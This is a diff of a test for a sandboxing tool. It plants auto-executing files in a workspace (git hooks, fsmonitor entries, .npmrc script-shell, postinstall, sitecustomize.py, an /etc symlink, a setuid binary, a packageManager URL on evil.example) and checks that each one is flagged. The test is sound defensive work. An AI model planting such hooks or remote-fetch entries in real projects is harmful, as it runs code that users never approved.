@@ -58,10 +58,12 @@ describe.each(['native', 'util-linux'])('by %s', (launcher) => {
       printf '#!/bin/sh\\ntouch ${sprung}/hook\\n' >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
       printf '[core]\\n\\tfsmonitor = touch ${sprung}/monitor\\n' >>.git/config; git init -q inner; printf '[core]\\n\\tfsmonitor = x\\n' >>inner/.git/config; printf 'gitdir: ../elsewhere\\n' >sub; mkdir m; printf 'gitdir: /elsewhere\\n' >m/.git
       echo 'export A=1' >.envrc; mkdir -p .github/workflows .vscode .husky .nexus .devcontainer; echo a >.github/workflows/ci.yml; echo '{}' >.vscode/tasks.json; echo a >.husky/pre-commit; echo 'a: b' >.nexus/settings.yaml; echo '{}' >.devcontainer/devcontainer.json
+      git init -q --bare embedded; printf '[core]\\n\\tfsmonitor = touch ${sprung}/bare\\n' >>embedded/config; mkdir -p .git/worktrees/w .cargo .idea .cursor; echo x >.git/worktrees/w/config.worktree; echo x >.git/commondir
+      echo '* filter=evil diff=evil' >.gitattributes; echo x >.cargo/config.toml; echo x >sitecustomize.py; echo x >.bashrc; echo x >.exrc; echo '{}' >.cursor/mcp.json; ln -s tools .mvn; echo '{"packageManager":"yarn@https://evil.example/y.js"}' >inner/package.json
       echo 'script-shell=./x' >.npmrc; printf '{"scripts":{"postinstall":"./x"}}' >package.json; ln -sfn /etc .claude; ln -s ../../.. up; cp /bin/true own; chmod 6755 own`)
     expect([run.status, run.exitCode]).toEqual(['kept', 0])
     const flagged = new Map(run.changes.map(({ path, flags }) => [String(path), flags]))
-    for (const path of ['.git/hooks/post-checkout', '.git/config', 'inner/.git/config', 'm/.git', '.envrc', '.github/workflows/ci.yml', '.vscode/tasks.json', '.husky/pre-commit', '.devcontainer/devcontainer.json', '.npmrc', 'package.json', '.claude']) expect([path, flagged.get(path)]).toEqual([path, expect.arrayContaining(['auto-exec'])])
+    for (const path of ['.git/hooks/post-checkout', '.git/config', 'inner/.git/config', 'm/.git', '.envrc', '.github/workflows/ci.yml', '.vscode/tasks.json', '.husky/pre-commit', '.devcontainer/devcontainer.json', '.npmrc', 'package.json', '.claude', 'embedded/config', 'embedded/HEAD', '.git/worktrees/w/config.worktree', '.git/commondir', '.gitattributes', '.cargo/config.toml', 'sitecustomize.py', '.bashrc', '.exrc', '.cursor/mcp.json', '.mvn', 'inner/package.json']) expect([path, flagged.get(path)]).toEqual([path, expect.arrayContaining(['auto-exec'])])
     expect([flagged.get('.nexus/settings.yaml'), flagged.get('up'), flagged.get('.claude'), flagged.get('own')]).toEqual([['nexus-settings'], ['outside-symlink'], expect.arrayContaining(['outside-symlink']), ['setuid']])
     expect(existsSync(join(nexus.project, '.github'))).toBe(false)
     await nexus.call('discard', run.id)
